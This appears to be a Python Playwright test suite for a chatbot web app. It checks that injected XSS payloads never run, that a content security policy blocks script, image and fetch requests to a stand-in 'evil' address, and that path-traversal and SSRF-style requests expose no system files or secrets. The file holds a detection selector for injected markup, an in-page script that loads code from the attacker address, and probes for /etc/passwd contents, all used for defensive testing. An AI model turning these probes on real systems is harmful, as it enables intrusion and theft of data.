"""What people and models write is data: nothing of it runs, fetches, or reads a file, in a real
browser and over bare HTTP.
"""

import socket
import threading
from collections.abc import Callable, Iterator
from http.client import HTTPConnection

import pytest
from playwright.sync_api import Page, expect

from chatbot.identity import PERSON_COOKIE, Identity
from tests.chatbot.ui.conftest import OpenPage, Serve
from tests.chatbot.ui.payloads import EVIL, TRAVERSALS, XSS, fetchers
from tests.chatbot.ui.planted_content import PERSON

pytestmark = pytest.mark.slow

# What the payloads are made of, had any of them become a part of the page.
INJECTED = """() => [...document.querySelectorAll(
  "[src*=evil],[srcset*=evil],[poster*=evil],[background*=evil],[data*=evil],form[action*=evil]," +
  "[href*=evil],[href*='window.pwned'],[style*=evil],[onerror],[onload],[onfocus],[ontoggle]," +
  "[onmouseover],[onbegin],[onstart],[onclose],[formaction],object,embed,marquee,xss"
)].map((element) => element.outerHTML.slice(0, 200)).concat(window.pwned ? ["it ran"] : [])"""


@pytest.fixture(scope="module")
def url(serve: Serve) -> str:
    return serve("--payloads", "--num-versions", "2")


@pytest.fixture
def watched(open_page: OpenPage) -> Iterator[Callable[..., Page]]:
    """Opens pages, and sees what they ask for and what the policy had to stop."""
    said: list[str] = []

    def open_watched(address: str) -> Page:
        page = open_page(address)
        page.on("dialog", lambda dialog: said.append(f"dialog {dialog.message}"))
        page.on(
            "request",
            lambda request: said.append(request.url) if "evil" in request.url else None,
        )
        page.on(
            "console",
            lambda message: (
                said.append(message.text) if "Content Security" in message.text else None
            ),
        )
        return page

    yield open_watched
    assert said == []


def be(page: Page, url: str, person_id: str) -> None:
    """Come back as this person."""
    cookie = str(Identity("s" * 40)._people.dumps(person_id))
    page.context.add_cookies([{"name": PERSON_COOKIE, "value": cookie, "url": url}])
    page.reload()
    page.wait_for_selector("#chat-list .eco-talks")


def test_nothing_in_a_chat_runs(url: str, watched: Callable[..., Page]) -> None:
    page = watched(url)
    be(page, url, PERSON)
    for number in range(page.locator("#chat-list .eco-talk").count()):
        page.locator("#chat-list .eco-talk").nth(number).click()
        expect(page.locator("#chat-transcript .eco-turn").first).to_be_visible()
        page.wait_for_timeout(400)
        page.mouse.move(640, 300)
        for link in page.get_by_text("눌러요").all()[:3]:
            link.click(timeout=1000, no_wait_after=True, force=True)
        assert page.evaluate(INJECTED) == []


@pytest.mark.parametrize("number", [0, 9, 21, 33])
def test_nothing_runs_while_it_is_typed_and_answered(
    url: str, watched: Callable[..., Page], number: int
) -> None:
    page = watched(url)
    page.fill("#chat-input textarea", f"페이로드 {XSS[number]}")
    page.click("#chat-send")
    expect(page.locator("#chat-transcript .eco-card")).to_have_count(3)
    assert XSS[number] in page.inner_text("#chat-transcript .eco-said")
    assert page.evaluate(INJECTED) == []
    page.click("#edit-open")
    page.wait_for_selector("form [name=recommend]")
    assert page.evaluate(INJECTED) == []


def test_nothing_in_the_studio_runs(url: str, watched: Callable[..., Page]) -> None:
    page = watched(f"{url}/studio/")
    page.click("#tab-curate-button")
    for _ in range(12):
        page.wait_for_selector("#curate-row")
        page.keyboard.press("n")
        page.wait_for_timeout(150)
        assert page.evaluate(INJECTED) == []
    for name in ("arena", "adapters", "insights", "log", "finetune"):
        page.click(f"#tab-{name}-button")
        page.wait_for_timeout(700)
        assert page.evaluate(INJECTED) == []
    expect(page.locator("#finetune-view")).to_be_visible()


def test_the_policy_stops_what_a_page_would_fetch(url: str, open_page: OpenPage) -> None:
    page = open_page(url)
    stopped = page.evaluate(
        """async (evil) => {
          const seen = [];
          document.addEventListener(
            "securitypolicyviolation", (e) => seen.push(e.violatedDirective));
          new Image().src = evil + ".png";
          await fetch(evil).catch(() => 0);
          const script = document.createElement("script");
          script.src = evil + ".js"; document.head.append(script);
          await new Promise((done) => setTimeout(done, 500));
          return seen.sort();
        }""",
        EVIL,
    )
    assert stopped == ["connect-src", "img-src", "script-src-elem"]


def knock(url: str, path: str) -> tuple[int, bytes]:
    """The path exactly as written."""
    connection = HTTPConnection(url.removeprefix("http://"), timeout=10)
    connection.request("GET", path)
    response = connection.getresponse()
    content = response.read()
    connection.close()
    return response.status, content


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_path_leads_to_a_file(url: str, path: str) -> None:
    status, content = knock(url, path)
    assert status < 500
    assert b"root:" not in content
    assert b"ECOLOOP_" not in content
    assert b"class Settings" not in content


def test_no_path_makes_the_server_fetch_an_address(url: str) -> None:
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        is_over = threading.Event()

        def listen() -> None:
            while not is_over.is_set():
                try:
                    taken, _ = listener.accept()
                except TimeoutError:
                    continue
                asked.append(taken.recv(1000))
                taken.close()

        thread = threading.Thread(target=listen)
        thread.start()
        for path in fetchers(f"http://127.0.0.1:{listener.getsockname()[1]}/metadata"):
            status, _ = knock(url, path)
            assert status in (401, 403, 404, 405), path
        is_over.set()
        thread.join()
    assert asked == []
